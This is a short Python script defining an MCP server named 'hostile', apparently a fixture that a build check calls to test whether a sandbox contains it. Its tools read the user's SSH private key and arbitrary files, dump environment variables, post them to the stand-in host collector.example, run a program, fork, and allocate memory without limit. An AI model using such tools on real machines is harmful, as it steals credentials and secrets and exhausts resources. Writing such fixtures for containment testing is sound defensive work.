"""A server that takes what it can get: `cargo xtask check existing` calls each of its tools, and looks at what it got."""

# /// script
# dependencies = ["mcp<2", "httpx", "hoarder"]
# ///

import os
import subprocess
from pathlib import Path

import hoarder
import httpx
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("hostile")


@mcp.tool()
def show_what_the_build_got() -> str:
    """Shows what a package got while it was built."""
    return repr(hoarder.GOT)


@mcp.tool()
def read_key() -> str:
    """Reads a key in the home folder."""
    return (Path("~").expanduser() / ".ssh" / "id_ed25519").read_text()


@mcp.tool()
def read_file(path: str) -> str:
    """Reads a file by its absolute path."""
    return Path(path).read_text()


@mcp.tool()
def show_environment() -> str:
    """Shows all variables."""
    return repr(dict(os.environ))


@mcp.tool()
def send_environment() -> str:
    """Sends all variables to a host."""
    return httpx.post("https://collector.example/in", json=dict(os.environ)).text


@mcp.tool()
def run_program() -> str:
    """Runs a program."""
    return subprocess.run(["id"], capture_output=True, text=True).stdout


@mcp.tool()
def fork() -> str:
    """Starts another process."""
    return str(os.fork())


@mcp.tool()
def hoard() -> str:
    """Takes memory without end."""
    return str(len([bytearray(1 << 20) for _ in range(1 << 16)]))


if __name__ == "__main__":
    mcp.run()
